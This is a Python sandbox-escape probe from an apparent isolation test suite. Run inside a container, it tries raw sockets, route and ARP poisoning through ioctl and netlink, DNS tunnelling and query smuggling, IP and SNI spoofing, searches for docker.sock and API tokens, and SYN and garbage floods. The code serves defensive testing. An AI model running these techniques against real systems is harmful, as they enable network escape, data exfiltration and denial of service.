"""A hostile script: runs *inside* the sandbox (stdlib only) and tries to get out.

    python3 hostile.py /ctl/targets.json

Every attempt prints one JSON line ``{"attack", "ok", "value", "error", "errno", "t",
"seconds"}``: ``ok`` is true when the operation itself succeeded (a socket was created, a
connection made, an answer came back), so the test decides which outcome is an escape.
Positive controls (``control_*``) must succeed, so a broken probe cannot pass vacuously.

Every address comes from the targets file, written by the test: containers and networks
the test started, the session's own gateway and bridge. Nothing else is ever contacted.

The script also serves a TCP/UDP listener (``listen_port``) for the *other* session to
try to reach; after its attacks it prints ``done`` and waits for ``/ctl/stop``.
"""

from __future__ import annotations

import contextlib
import errno
import fcntl
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.request
from collections.abc import Callable
from functools import partial
from typing import Any

T: dict[str, Any] = {}
TIMEOUT = 1.5

# -- output -------------------------------------------------------------------------------


LOCK = threading.Lock()


def emit(
    attack: str,
    ok: bool,
    value: Any = None,
    error: str = "",
    code: int | None = None,
    start: float = 0.0,
) -> None:
    now = time.monotonic()
    line = {
        "attack": attack,
        "ok": ok,
        "value": value,
        "error": error,
        "errno": code,
        "t": start or now,
        "seconds": now - (start or now),
    }
    with LOCK:  # attack groups run in threads: one whole line at a time
        sys.stdout.write(json.dumps(line, default=repr) + "\n")
        sys.stdout.flush()


def attempt(attack: str, fn: Callable[[], Any]) -> None:
    start = time.monotonic()
    try:
        value = fn()
    except OSError as exc:
        emit(attack, False, None, repr(exc), exc.errno, start)
    except Exception as exc:  # a surprise is reported, never fatal
        emit(attack, False, None, repr(exc), None, start)
    else:
        emit(attack, True, value, "", None, start)


# -- helpers ------------------------------------------------------------------------------


def tcp(host: str, port: int, data: bytes = b"", timeout: float = TIMEOUT) -> str:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(timeout)
        if family == socket.AF_INET6 and host.startswith("fe80"):
            s.connect((host, port, 0, socket.if_nametoindex("eth0")))
        else:
            s.connect((host, port))
        if data:
            s.sendall(data)
            reply = b""
            with contextlib.suppress(OSError):  # read to the end (or a timeout)
                while len(reply) < 4096 and (chunk := s.recv(4096)):
                    reply += chunk
            return reply.decode(errors="replace") or "connected, no reply"
        return "connected"


def udp(
    host: str,
    port: int,
    data: bytes,
    reply: bool = True,
    timeout: float = TIMEOUT,
    family: int = socket.AF_INET,
    proto: int = 0,
) -> str:
    with socket.socket(family, socket.SOCK_DGRAM, proto) as s:
        s.settimeout(timeout)
        if family == socket.AF_INET6 and host.startswith(("fe80", "ff02")):
            s.sendto(data, (host, port, 0, socket.if_nametoindex("eth0")))
        else:
            s.sendto(data, (host, port))
        if not reply:
            return "sent"
        got, _ = s.recvfrom(70000)
        return f"reply {len(got)} bytes"


def ping(host: str, payload: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(TIMEOUT)
        s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + payload, (host, 0))
        got, _ = s.recvfrom(70000)
        return f"reply {len(got)} bytes"


def dns_name(labels: list[bytes]) -> bytes:
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def dns_message(
    labels: list[bytes],
    qtype: int = 1,
    extra_questions: bytes = b"",
    additional: bytes = b"",
    ident: int = 0,
) -> bytes:
    qd = 1 + (1 if extra_questions else 0)
    ar = 1 if additional else 0
    header = struct.pack("!HHHHHH", ident or random.randrange(1, 65535), 0x0100, qd, 0, 0, ar)
    question = dns_name(labels) + struct.pack("!HH", qtype, 1)
    return header + question + extra_questions + additional


def split(name: str) -> list[bytes]:
    return [label.encode() for label in name.split(".")]


def dns(
    server: str, message: bytes, port: int = 53, tcp_: bool = False, timeout: float = TIMEOUT
) -> str:
    """Send one DNS message; returns ``rcode=N answers=M`` or raises on no answer."""
    if tcp_:
        with socket.create_connection((server, port), timeout=timeout) as s:
            s.sendall(len(message).to_bytes(2, "big") + message)
            size = int.from_bytes(recv_exact(s, 2), "big")
            reply = recv_exact(s, size)
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(timeout)
            s.sendto(message, (server, port))
            reply, _ = s.recvfrom(4096)
    return f"rcode={reply[3] & 0x0F} answers={struct.unpack('!H', reply[6:8])[0]}"


def recv_exact(s: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def http_get(url: str, timeout: float = 5.0) -> str:
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return f"{resp.status} {resp.read(200).decode(errors='replace').strip()}"


def read(path: str) -> str:
    with open(path) as f:
        return f.read()


def sockaddr_in(ip: str) -> bytes:
    return struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(ip))


def ifreq(name: str, payload: bytes) -> bytes:
    return name.encode().ljust(16, b"\0") + payload.ljust(24, b"\0")


# -- netlink (what ``ip route/addr/neigh add`` does) --------------------------------------

NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE = 0x1, 0x4, 0x200, 0x400
RTM_NEWADDR, RTM_NEWROUTE, RTM_NEWNEIGH, NLMSG_ERROR = 20, 24, 28, 2


def rtattr(kind: int, data: bytes) -> bytes:
    raw = struct.pack("=HH", 4 + len(data), kind) + data
    return raw + b"\0" * (-len(raw) % 4)


def netlink(msg_type: int, body: bytes) -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:  # NETLINK_ROUTE
        s.settimeout(TIMEOUT)
        s.bind((0, 0))
        flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
        s.send(struct.pack("=IHHII", 16 + len(body), msg_type, flags, 1, 0) + body)
        reply = s.recv(4096)
    _length, kind, _flags, _seq, _pid = struct.unpack_from("=IHHII", reply)
    if kind == NLMSG_ERROR:
        code = struct.unpack_from("=i", reply, 16)[0]
        if code:
            raise OSError(-code, os.strerror(-code))
    return "acknowledged: the kernel applied it"


# -- the listener the other session tries to reach ----------------------------------------

HITS: list[dict[str, Any]] = []


def server(kind: int, port: int) -> socket.socket:
    """A dual-stack listener if IPv6 sockets exist here, else an IPv4 one."""
    try:
        srv = socket.socket(socket.AF_INET6, kind)
        srv.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        srv.bind(("::", port))
    except OSError:
        srv = socket.socket(socket.AF_INET, kind)
        srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        srv.bind(("0.0.0.0", port))
    return srv


def listen(port: int) -> None:
    tcp_srv, udp_srv = server(socket.SOCK_STREAM, port), server(socket.SOCK_DGRAM, port)
    tcp_srv.listen(64)

    def serve_tcp() -> None:
        while True:
            conn, peer = tcp_srv.accept()
            HITS.append({"proto": "tcp", "peer": peer[0]})
            conn.close()

    def serve_udp() -> None:
        while True:
            data, peer = udp_srv.recvfrom(70000)
            HITS.append({"proto": "udp", "peer": peer[0], "len": len(data)})

    threading.Thread(target=serve_tcp, daemon=True).start()
    threading.Thread(target=serve_udp, daemon=True).start()


# -- attack groups --------------------------------------------------------------------------


def raw_sockets() -> None:
    attempt("raw_packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close())
    attempt(
        "raw_packet_dgram", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0).close()
    )
    for name, proto in (
        ("raw_ip", socket.IPPROTO_RAW),
        ("raw_tcp", socket.IPPROTO_TCP),
        ("raw_udp", socket.IPPROTO_UDP),
        ("raw_icmp", socket.IPPROTO_ICMP),
    ):
        attempt(
            name,
            partial(lambda p: socket.socket(socket.AF_INET, socket.SOCK_RAW, p).close(), proto),
        )
    attempt("raw_ip6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 255).close())

    def userns_then_raw() -> str:
        getattr(os, "unshare")(getattr(os, "CLONE_NEWUSER", 0x10000000))  # noqa: B009 (3.12+)  # a user namespace would give "capabilities" ...
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()  # ... but not here
        return "raw socket in the session's namespace after unshare"

    attempt("userns_raw", userns_then_raw)

    def caps() -> str:
        for line in read("/proc/self/status").splitlines():
            if line.startswith("CapEff:"):
                return line.split()[1]
        return ""

    attempt("control_capeff", caps)


def routes_and_addresses() -> None:
    gw, bridge = T["gateway"], T["bridge"]
    ifindex = socket.if_nametoindex("eth0")
    before = read("/proc/net/route")

    def ioctl(request: int, arg: bytes) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            fcntl.ioctl(s.fileno(), request, arg)
        return "ioctl accepted"

    rtentry = bytearray(120)  # struct rtentry (x86_64): a /32 route to the bridge, no gateway
    rtentry[8:24] = sockaddr_in(bridge)
    rtentry[40:56] = sockaddr_in("255.255.255.255")
    rtentry[56:58] = struct.pack("=H", 0x0001 | 0x0004)  # RTF_UP | RTF_HOST
    attempt("ioctl_addrt", lambda: ioctl(0x890B, bytes(rtentry)))  # SIOCADDRT
    default = bytearray(120)
    default[8:24] = sockaddr_in("0.0.0.0")
    default[40:56] = sockaddr_in("0.0.0.0")
    attempt("ioctl_delrt", lambda: ioctl(0x890C, bytes(default)))  # SIOCDELRT
    attempt("ioctl_ifaddr", lambda: ioctl(0x8916, ifreq("eth0", sockaddr_in(T["evil"]))))
    attempt("ioctl_ifflags", lambda: ioctl(0x8914, ifreq("eth0", struct.pack("=H", 0))))
    attempt("ioctl_mtu", lambda: ioctl(0x8922, ifreq("eth0", struct.pack("=i", 9000))))
    arpreq = sockaddr_in(gw) + struct.pack("=H6s8x", 1, b"\x02\x00\x00\x00\x00\x01")
    arpreq += struct.pack("=i", 0x02 | 0x04) + sockaddr_in("0.0.0.0") + b"eth0".ljust(16, b"\0")
    attempt("ioctl_arp", lambda: ioctl(0x8955, arpreq))  # SIOCSARP: poison the gateway entry

    rtmsg = struct.pack("=BBBBBBBBI", socket.AF_INET, 32, 0, 0, 254, 3, 0, 1, 0)
    attempt(
        "netlink_route",
        lambda: netlink(
            RTM_NEWROUTE,
            rtmsg + rtattr(1, socket.inet_aton(bridge)) + rtattr(4, struct.pack("=i", ifindex)),
        ),
    )
    ifaddr = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, ifindex)
    attempt(
        "netlink_addr",
        lambda: netlink(
            RTM_NEWADDR,
            ifaddr
            + rtattr(2, socket.inet_aton(T["evil"]))
            + rtattr(1, socket.inet_aton(T["evil"])),
        ),
    )
    ndmsg = struct.pack("=BxxxiHBB", socket.AF_INET, ifindex, 0x80, 0, 0)
    attempt(
        "netlink_neigh",
        lambda: netlink(
            RTM_NEWNEIGH,
            ndmsg + rtattr(1, socket.inet_aton(gw)) + rtattr(2, b"\x02\x00\x00\x00\x00\x01"),
        ),
    )

    def write(path: str, value: str) -> str:
        with open(path, "w") as f:
            f.write(value)
        return f"wrote {path}"

    attempt("proc_ip_forward", lambda: write("/proc/sys/net/ipv4/ip_forward", "1"))
    attempt("proc_ipv6", lambda: write("/proc/sys/net/ipv6/conf/all/disable_ipv6", "0"))
    attempt("proc_rp_filter", lambda: write("/proc/sys/net/ipv4/conf/eth0/rp_filter", "0"))
    attempt("routes_unchanged", lambda: read("/proc/net/route") == before)

    def syn_data() -> int:
        """A request head in the SYN (TCP Fast Open, no cookie needed): a web flow read in
        passing would carry it out before the gateway reads any head."""
        s = socket.socket()
        s.settimeout(5)
        try:
            s.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE
            head = b"GET /tfo HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"
            return s.sendto(head, socket.MSG_FASTOPEN, (T["internet"], 80))
        finally:
            s.close()

    attempt("tfo_sysctl", lambda: read("/proc/sys/net/ipv4/tcp_fastopen").strip())
    attempt("tfo_syn_data", syn_data)
    attempt("control_routes", lambda: [line.split()[:3] for line in before.splitlines()[1:]])


def ipv6() -> None:
    def addresses() -> list[str]:
        try:
            return [line.split()[0] for line in open("/proc/net/if_inet6")]
        except FileNotFoundError:
            return []

    attempt("v6_addresses", addresses)
    attempt("v6_disabled", lambda: read("/proc/sys/net/ipv6/conf/all/disable_ipv6").strip())
    port = T["listen_port"]
    for name, addr in (
        ("v6_host_ll", T["bridge_ll"]),
        ("v6_host_ula", T["target_v6_host"]),
        ("v6_target_ula", T["target_v6"]),
        ("v6_target_ll", T["target_ll"]),
    ):
        if addr:
            attempt(f"{name}_tcp", partial(tcp, addr, port))
            attempt(
                f"{name}_udp",
                partial(udp, addr, port, b"CODERUN-v6", reply=False, family=socket.AF_INET6),
            )
    attempt(
        "v6_mcast", lambda: udp("ff02::1", port, b"CODERUN-v6", reply=False, family=socket.AF_INET6)
    )
    # An IPv4-mapped address is IPv4 on the wire: it crosses the gateway like any flow.
    attempt("v6_mapped_denied", lambda: tcp("::ffff:" + T["evil"], 80))


def host_and_neighbours(enforce: bool) -> None:
    hp = T["host_port"]
    attempt("host_bridge_tcp", lambda: tcp(T["bridge"], hp, b"CODERUN-host"))
    attempt("host_bridge_udp", lambda: udp(T["bridge"], hp, b"CODERUN-host", reply=False))
    if enforce:
        attempt("host_egress_tcp", lambda: tcp(T["egress_bridge"], hp, b"CODERUN-host"))
        attempt("other_net_tcp", lambda: tcp(T["target"], T["listen_port"], b"CODERUN-other"))
        attempt(
            "other_net_udp",
            lambda: udp(T["target"], T["listen_port"], b"CODERUN-other", reply=False),
        )
    attempt("other_session_tcp", lambda: tcp(T["other_sandbox"], T["listen_port"], b"CODERUN-s"))
    attempt(
        "other_session_udp",
        lambda: udp(T["other_sandbox"], T["listen_port"], b"CODERUN-s", reply=False),
    )
    attempt("control_self_listener", lambda: tcp(T["self"], T["listen_port"]))


def broadcast_and_multicast() -> None:
    hp = T["host_port"]

    def bcast() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"CODERUN-bcast", ("255.255.255.255", hp))
        return "sent"

    attempt("bcast_limited", bcast)
    attempt("mcast_all_hosts", lambda: udp("224.0.0.1", hp, b"CODERUN-mcast", reply=False))
    attempt("mcast_mdns", lambda: udp("224.0.0.251", 5353, b"CODERUN-mcast", reply=False))

    def igmp_join() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            group = socket.inet_aton("239.67.82.85") + socket.inet_aton("0.0.0.0")
            s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        return "joined"

    attempt("mcast_igmp_join", igmp_join)


def embedded_dns() -> None:
    query = dns_message(split(T["gateway_name"]))
    attempt("embedded_dns_udp53", lambda: dns("127.0.0.11", query))
    attempt("embedded_dns_tcp53", lambda: dns("127.0.0.11", query, tcp_=True))
    # Docker's resolver really listens on random ports; /proc shows them. Try each.
    for table, kind in (("/proc/net/udp", "udp"), ("/proc/net/tcp", "tcp")):
        for line in read(table).splitlines()[1:]:
            local = line.split()[1]
            addr, port_hex = local.split(":")
            if addr == "0B00007F":
                port = int(port_hex, 16)
                attempt(
                    f"embedded_dns_{kind}_{port}",
                    partial(dns, "127.0.0.11", query, port=port, tcp_=kind == "tcp"),
                )


def resolvers_and_tunnels() -> None:
    gw, nonce = T["gateway"], T["nonce"]
    direct = dns_message(split(f"coderun-direct-{nonce}.example.test"))
    attempt("direct_dns_udp", lambda: dns(T["internet"], direct))
    attempt("direct_dns_tcp", lambda: dns(T["internet"], direct, tcp_=True))
    attempt("direct_dns_other_udp", lambda: dns(T["evil"], direct))
    secret = os.urandom(20).hex()
    for name, qname, qtype, over_tcp in (
        ("tunnel_a", f"{secret}.coderun-tun-{nonce}.example.test", 1, False),
        ("tunnel_txt", f"{secret[:30]}.coderun-tun-{nonce}.example.test", 16, False),
        ("tunnel_tcp", f"{secret[:30]}.coderun-tun-{nonce}.example.test", 1, True),
        ("tunnel_sub_allowed", f"coderun-tun-{nonce}.api.example.test", 1, False),
        ("tunnel_suffix", f"api.example.test.coderun-tun-{nonce}.example.test", 28, False),
    ):
        attempt(name, partial(dns, gw, dns_message(split(qname), qtype), tcp_=over_tcp))
    allowed = split("api.example.test")
    smuggle = f"coderun-smuggle-{nonce}".encode()
    second_q = dns_name([smuggle + b"-q2", b"example", b"test"]) + struct.pack("!HH", 16, 1)
    attempt("smuggle_second_question", lambda: dns(gw, dns_message(allowed, 1, second_q)))
    txt = smuggle + b"-ar"
    record = dns_name([smuggle + b"-ar"]) + struct.pack("!HHIH", 16, 1, 60, len(txt) + 1)
    record += bytes([len(txt)]) + txt
    attempt("smuggle_additional", lambda: dns(gw, dns_message(allowed, 1, additional=record)))
    attempt("smuggle_dotted_label", lambda: dns(gw, dns_message([b"api.example", b"test"])))
    attempt("smuggle_case", lambda: dns(gw, dns_message([b"ApI", b"eXaMpLe", b"tEsT"])))
    attempt("control_gateway_dns", lambda: dns(gw, dns_message(allowed)))


def spoofing() -> None:
    def transparent() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
            s.bind((T["evil"], 0))
            s.sendto(b"CODERUN-spoof", (T["internet"], 7))
        return "sent from a foreign address"

    def freebind(kind: int) -> str:
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(TIMEOUT)
            s.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND: bind works ...
            s.bind((T["evil"], 0))
            if kind == socket.SOCK_DGRAM:  # ... but may the packet leave?
                s.sendto(b"CODERUN-spoof", (T["internet"], 7))
                return f"reply {len(s.recv(100))} bytes"
            s.connect((T["internet"], 80))
            return "connected from a foreign address"

    def source_route() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(TIMEOUT)
            lsrr = bytes([131, 7, 4]) + socket.inet_aton(T["evil"]) + b"\0"
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, lsrr)
            s.sendto(b"CODERUN-spoof", (T["internet"], 7))
            return f"reply {len(s.recv(100))} bytes"

    attempt("spoof_transparent", transparent)
    attempt("spoof_freebind_udp", lambda: freebind(socket.SOCK_DGRAM))
    attempt("spoof_freebind_tcp", lambda: freebind(socket.SOCK_STREAM))
    attempt("spoof_source_route", source_route)


def gateway_ports() -> None:
    gw = T["gateway"]
    for port in T["gateway_ports"]:
        attempt(f"gateway_tcp_{port}", partial(tcp, gw, port))
    attempt("gateway_udp_9999", lambda: udp(gw, 9999, b"CODERUN-gw"))
    attempt("gateway_egress_tcp_8080", lambda: tcp(T["gateway_egress"], 8080))
    attempt("gateway_egress_tcp_22", lambda: tcp(T["gateway_egress"], 22))
    attempt("control_gateway_tcp_53", lambda: tcp(gw, 53))


def api_socket() -> None:
    def search() -> list[str]:
        found: list[str] = []
        names = {"api.sock", "api-token", "rules.db", "flows.jsonl", "gateway.json", "docker.sock"}
        for root, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
            found.extend(os.path.join(root, f) for f in files if f in names)
        return found

    attempt("api_files_visible", search)
    attempt(
        "api_unix_sockets",
        lambda: [
            line.split()[-1]
            for line in read("/proc/net/unix").splitlines()
            if "api.sock" in line or "docker" in line
        ],
    )
    attempt("data_dir_visible", lambda: os.listdir("/data"))
    attempt("docker_sock", lambda: os.stat("/var/run/docker.sock").st_mode)


def icmp_and_fragments() -> None:
    attempt("icmp_big_denied", lambda: ping(T["other"], b"CODERUN-icmp" + b"i" * 30000))
    attempt("icmp_small_denied", lambda: ping(T["other"], b"CODERUN-icmp" + b"i" * 1000))
    attempt("control_icmp_big_allowed", lambda: ping(T["internet"], b"CODERUN-icmp" + b"i" * 30000))
    big = b"CODERUN-big" + b"b" * 60000
    attempt("udp_big_denied", lambda: udp(T["other"], 7, big, timeout=2.0))
    attempt("control_udp_big_allowed", lambda: udp(T["internet"], 7, big, timeout=3.0))

    def udplite() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:  # IPPROTO_UDPLITE
            s.sendto(b"CODERUN-udplite", (T["evil"], 7))
        return "sent"

    def sctp() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as s:  # IPPROTO_SCTP
            s.settimeout(TIMEOUT)
            s.connect((T["evil"], 7))
        return "connected"

    def dccp() -> str:
        with socket.socket(socket.AF_INET, 6, 33) as s:  # SOCK_DCCP, IPPROTO_DCCP
            s.settimeout(TIMEOUT)
            s.connect((T["evil"], 7))
        return "connected"

    attempt("proto_udplite", udplite)
    attempt("proto_sctp", sctp)
    attempt("proto_dccp", dccp)


def tls_and_http() -> None:
    nonce = T["nonce"]
    ctx = ssl.create_default_context(cafile="/ctl/ca.pem")

    def tls(ip: str, sni: str, path: str) -> str:
        raw = socket.create_connection((ip, 443), timeout=3)
        with raw, ctx.wrap_socket(raw, server_hostname=sni) as s:
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n".encode())
            return s.recv(200).decode(errors="replace").splitlines()[0]

    # First what may pass: the lookup names the address api.example.test for the gateway.
    attempt("control_http_allowed", lambda: http_get(f"http://api.example.test/CODERUN-ok-{nonce}"))
    # A denied address, named in the ClientHello as an allowed host.
    attempt("sni_spoof", lambda: tls(T["evil"], "api.example.test", f"/coderun-sni-{nonce}"))

    def silent(ip: str) -> str:  # connect, then close without sending a byte
        with socket.create_connection((ip, 443), timeout=TIMEOUT):
            return "connected"

    attempt("tls_port_silent_denied", lambda: silent(T["tracker"]))
    # An allowed address asked (absolute form, Host) for a denied one: just payload.
    absolute = (
        f"GET http://evil.example.test/coderun-abs-{nonce} HTTP/1.1\r\n"
        "Host: evil.example.test\r\nConnection: close\r\n\r\n"
    ).encode()
    attempt("http_absolute_form", lambda: tcp(T["internet"], 80, absolute, timeout=3))
    attempt("control_https_allowed", lambda: tls(T["internet"], "api.example.test", "/ok"))


def garbage() -> None:
    gw = T["gateway"]
    n = T["garbage"]
    lookup = dns_message(split("api.example.test"))
    rng = random.Random(T["nonce"])

    def flood_resolver() -> dict[str, Any]:
        # Bursts of garbage, each followed by a real lookup that must be answered: the
        # answer paces the next burst and proves the resolver is still alive.
        answered, sent = 0, 0
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            while sent < n:
                for _ in range(min(100, n - sent)):
                    s.sendto(rng.randbytes(rng.randrange(0, 600)), (gw, 53))
                    sent += 1
                with contextlib.suppress(OSError):
                    answered += dns(gw, lookup, timeout=3.0).startswith("rcode=0")
        return {"sent": sent, "answered": answered, "bursts": (n + 99) // 100}

    attempt("garbage_dns", flood_resolver)
    attempt("control_lookup_after_garbage", lambda: dns(gw, lookup))
    blob = rng.randbytes(1200)
    attempt("garbage_udp_allowed", lambda: udp(T["internet"], 7, blob))
    attempt(
        "garbage_tcp_allowed",
        lambda: tcp(T["internet"], 80, rng.randbytes(900) + b"\r\n\r\n", timeout=3),
    )


def flood() -> None:
    n, target = T["flood"], T["tracker"]
    result: dict[str, Any] = {}

    def allowed() -> None:
        start = time.monotonic()
        try:
            result["allowed"] = http_get(
                f"http://api.example.test/CODERUN-during-{T['nonce']}", timeout=15
            )
        except Exception as exc:
            result["allowed"] = repr(exc)
        result["allowed_seconds"] = time.monotonic() - start

    def syn_flood() -> dict[str, Any]:
        socks: list[socket.socket] = []
        errors: dict[int | None, int] = {}
        helper = threading.Thread(target=allowed)
        for i in range(n):
            s = socket.socket()
            s.setblocking(False)
            try:
                s.connect((target, 20000 + i))
            except BlockingIOError:
                pass
            except OSError as exc:
                errors[exc.errno] = errors.get(exc.errno, 0) + 1
            socks.append(s)
            if i == n // 2:
                helper.start()
        datagrams = []
        for _ in range(n):
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                u.sendto(b"CODERUN-flood", (target, 7))
            except OSError as exc:
                errors[exc.errno] = errors.get(exc.errno, 0) + 1
            datagrams.append(u)
        # Wait (bounded) until every connect has an outcome.
        poller = select.poll()
        for s in socks:
            poller.register(s, select.POLLOUT)
        pending, deadline = len(socks), time.monotonic() + 30
        while pending and time.monotonic() < deadline:
            for fd, _ in poller.poll(500):
                poller.unregister(fd)
                pending -= 1
        outcomes: dict[str, int] = {}
        for s in socks:
            code = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            name = errno.errorcode.get(code, str(code)) if code else "connected-or-pending"
            outcomes[name] = outcomes.get(name, 0) + 1
            s.close()
        for u in datagrams:
            u.close()
        helper.join(timeout=30)
        return {"outcomes": outcomes, "send_errors": errors, **result}

    attempt("flood", syn_flood)
    attempt(
        "control_http_after_flood",
        lambda: http_get(f"http://api.example.test/CODERUN-after-{T['nonce']}"),
    )


def main() -> None:
    T.update(json.loads(read(sys.argv[1])))
    listen(T["listen_port"])
    enforce = T["role"] == "a"
    groups: list[Callable[[], None]] = [
        raw_sockets,
        routes_and_addresses,
        ipv6,
        embedded_dns,
        gateway_ports,
        api_socket,
        lambda: host_and_neighbours(enforce),
    ]
    if enforce:
        groups += [
            broadcast_and_multicast,
            resolvers_and_tunnels,
            spoofing,
            tls_and_http,
            icmp_and_fragments,
        ]
    # Independent groups run side by side (each waits on its own timeouts) ...
    threads = [threading.Thread(target=group) for group in groups]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    # ... then the heavy ones, alone: garbage at the resolver, and the flood last.
    if enforce:
        garbage()
        flood()
    emit("done", True)
    deadline = time.monotonic() + 300
    while not os.path.exists("/ctl/stop") and time.monotonic() < deadline:
        time.sleep(0.05)
    emit("listener", True, HITS)


if __name__ == "__main__":
    main()
